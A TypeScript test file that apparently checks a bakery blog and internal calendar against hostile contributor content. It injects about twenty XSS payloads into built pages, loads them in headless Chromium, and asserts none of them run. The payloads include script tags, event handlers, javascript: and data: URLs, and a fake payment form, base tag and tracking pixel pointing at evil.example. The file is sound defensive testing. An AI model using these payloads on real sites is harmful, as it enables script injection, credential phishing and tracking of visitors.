// A hostile contributor's articles, netiquette and editorial line, built for real (lint bypassed, as if a
// reviewer had merged them) and opened in headless Chromium: nothing they hold runs on any page of either
// site, and the harmless HTML a writer uses still renders.
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { base, buildSites, CHROMIUM_ARGS, REPO_ROOT, serve, walk, type BuiltSites } from './helpers.ts';

const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const AT = '2026-12-20T12:00:00+01:00';

/** Each payload, if it ran, would open a dialog and set `window.__pwned` to its number. */
const run = (n: number) => `window.__pwned=${n};alert(${n})`;
const PAYLOADS: readonly string[] = [
  `<script>${run(1)}</script>`,
  `Bonjour <script>${run(2)}</script> à tous.`,
  `<img src="x" onerror="${run(3)}" />`,
  `<IMG SRC="x" ONERROR="${run(4)}" />`,
  `<abbr title="x" onmouseover="${run(5)}">AOP</abbr>`,
  `<iframe src="javascript:${run(6)}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run(7)}&lt;/script&gt;"></iframe>`,
  `[lien](javascript:${run(8)})`,
  `[lien](&#106;avascript:${run(9)})`,
  `<a href="java&#x09;script:${run(10)}">lien</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">lien</a>`,
  `<form action="https://evil.example/"><input name="carte" /><button>Payer</button></form>`,
  `<object data="javascript:${run(13)}"></object>`,
  `<embed src="javascript:${run(14)}" />`,
  `<svg><script>${run(15)}</script></svg>`,
  `<base href="https://evil.example/" />`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run(17)}" />`,
  `<link rel="stylesheet" href="https://evil.example/x.css" />`,
  `<p style="background:url(https://evil.example/pixel)">pixel</p>`,
  `<details open ontoggle="${run(20)}"><summary>x</summary>y</details>`,
];

const HARMLESS = `## Pour bien commencer

La <abbr title="Appellation d’origine protégée">AOP</abbr> du beurre, <kbd>Ctrl</kbd> + <kbd>P</kbd>, H<sub>2</sub>O, le 1<sup>er</sup> janvier.<br />Une deuxième ligne.

<details>
<summary>Les allergènes</summary>

Gluten, œufs, lait.

</details>

<figure>
<img src="https://boulangerie-lumiere.example/brioche.jpg" alt="Une brioche" />
<figcaption>La brioche des Lumières.</figcaption>
</figure>

<Callout type="tip" title="Astuce">
Réchauffez-la cinq minutes.
</Callout>

<Embed src="https://www.youtube.com/watch?v=dQw4w9WgXcQ" title="Le fournil en vidéo" />

[Nous écrire](mailto:bonjour@boulangerie-lumiere.example)
`;

function post(title: string, day: number, body: string): string {
  return `---\ntitle: ${JSON.stringify(title)}\npublishAt: 2026-12-${String(day).padStart(2, '0')}T10:00\nchannels: [blog]\npillar: communaute\ndescription: ${JSON.stringify(`${title} <script>alert("description")</script>`)}\n---\n${body}\n`;
}

describe.skipIf(!existsSync(CHROMIUM))('hostile content on the sites', () => {
  let root: string;
  let sites: BuiltSites;
  let blog: Server;
  let calendar: Server;
  let browser: Browser;

  beforeAll(async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cadence-hostile-'));
    for (const folder of ['content', 'public']) cpSync(path.join(REPO_ROOT, folder), path.join(root, folder), { recursive: true });
    PAYLOADS.forEach((payload, i) => writeFileSync(path.join(root, `content/posts/2026/12/hostile-${i + 1}.mdx`), post(`Article piégé ${i + 1}`, 1 + (i % 9), `# Titre\n\n${payload}\n`)));
    writeFileSync(path.join(root, 'content/posts/2026/12/harmless.mdx'), post('Article inoffensif', 11, HARMLESS));
    for (const file of ['content/netiquette.mdx', 'content/editorial-line.mdx']) {
      writeFileSync(path.join(root, file), `${readFileSync(path.join(root, file), 'utf8')}\n<script>${run(50)}</script>\n\n<img src="x" onerror="${run(51)}" />\n\n[x](javascript:${run(52)})\n`);
    }
    sites = buildSites({ root, at: AT, outBase: path.join(root, 'dist') });
    [blog, calendar] = await Promise.all([serve(sites.publicDir), serve(sites.internalDir)]);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
  }, 300_000);
  afterAll(async () => {
    await browser?.close();
    blog?.close();
    calendar?.close();
    if (root) rmSync(root, { recursive: true, force: true });
  });

  it('writes nothing executable in any file of either site', () => {
    const offenders: string[] = [];
    for (const [dir, site] of [[sites.publicDir, 'public'], [sites.internalDir, 'internal']] as const) {
      for (const file of walk(dir).filter((f) => /\.(html|xml|txt|json|ics)$/.test(f))) {
        const text = readFileSync(path.join(dir, file), 'utf8');
        // Attribute values are text (a description may quote `<script>`): elements and attribute names are what run.
        const markup = text.replace(/="[^"]*"/g, '=""');
        // The payloads' code is gone, not merely disarmed (the calendar's own filter script is the only script there).
        if (markup.includes('__pwned')) offenders.push(`${site}/${file}: a payload's code`);
        if (/javascript:|vbscript:|data:text/i.test(text)) offenders.push(`${site}/${file}: a script URL`);
        // The calendar has form controls of its own (its filters); the blog has none.
        if (site === 'public' && /<(?:object|embed|form|input(?![^>]*type="checkbox"[^>]*disabled)|button|base|svg)\b/i.test(text)) offenders.push(`${site}/${file}: a forbidden element`);
        if (site === 'public' && /<script\b|\son[a-z]+\s*=/i.test(markup)) offenders.push(`${site}/${file}: a script or event handler`);
        if (/evil\.example/.test(text)) offenders.push(`${site}/${file}: a request to another site`);
      }
    }
    expect(offenders).toEqual([]);
  });

  it('puts a Content-Security-Policy without script on every blog page', () => {
    const pages = walk(sites.publicDir).filter((f) => f.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(PAYLOADS.length);
    for (const page of pages) {
      const csp = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(readFileSync(path.join(sites.publicDir, page), 'utf8'))?.[1];
      expect({ page, csp }).toEqual({ page, csp: expect.stringContaining("script-src 'none'") });
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain('frame-src https://www.youtube-nocookie.com');
      expect(csp).toContain("form-action 'none'");
    }
  });

  it('runs nothing in Chromium: no dialog, no payload, no request elsewhere', async () => {
    const page = await browser.newPage();
    const dialogs: string[] = [];
    const foreign: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(base(blog)) && !url.startsWith(base(calendar)) && !url.startsWith('data:')) foreign.push(url);
    });
    const urls = [
      ...PAYLOADS.map((_, i) => `${base(blog)}/blog/2026-12-hostile-${i + 1}/`),
      `${base(blog)}/netiquette/`,
      `${base(blog)}/blog/`,
      `${base(calendar)}/line/`,
    ];
    for (const url of urls) {
      const response = await page.goto(url);
      expect({ url, status: response?.status() }).toEqual({ url, status: 200 });
      // Hover and toggle what could carry a handler.
      for (const element of await page.locator('main abbr, main details, main img').all()) await element.hover({ timeout: 500 }).catch(() => undefined);
      expect({ url, pwned: await page.evaluate('window.__pwned') }).toEqual({ url, pwned: undefined });
      if (url.startsWith(base(blog))) expect({ url, scripts: await page.evaluate('document.scripts.length') }).toEqual({ url, scripts: 0 });
    }
    expect(dialogs).toEqual([]);
    // The harmless article's remote image and the embed player are the only requests allowed elsewhere; none were made here.
    expect(foreign).toEqual([]);
    await page.close();
  });

  it('keeps the harmless HTML, the components and the embed', async () => {
    const page = await browser.newPage();
    await page.goto(`${base(blog)}/blog/2026-12-harmless/`);
    const main = page.locator('main');
    expect(await main.locator('abbr[title="Appellation d’origine protégée"]').textContent()).toBe('AOP');
    expect(await main.locator('kbd').count()).toBe(2);
    expect(await main.locator('sub').textContent()).toBe('2');
    expect(await main.locator('sup').textContent()).toBe('er');
    expect(await main.locator('br').count()).toBeGreaterThan(0);
    await main.locator('summary').click();
    expect(await main.locator('details').getAttribute('open')).not.toBeNull();
    expect(await main.locator('figure figcaption').textContent()).toBe('La brioche des Lumières.');
    expect(await main.locator('aside.callout-tip .callout-title').textContent()).toBe('Astuce');
    const frame = main.locator('figure.embed iframe');
    expect(await frame.getAttribute('src')).toBe('https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ');
    expect(await frame.getAttribute('title')).toBe('Le fournil en vidéo');
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts allow-same-origin allow-presentation allow-popups');
    expect(await main.locator('a[href^="mailto:"]').count()).toBe(1);
    // The description (frontmatter text) is text, escaped: visible as written, never run.
    expect(await page.getAttribute('meta[name="description"]', 'content')).toContain('<script>');
    await page.close();
  });
});
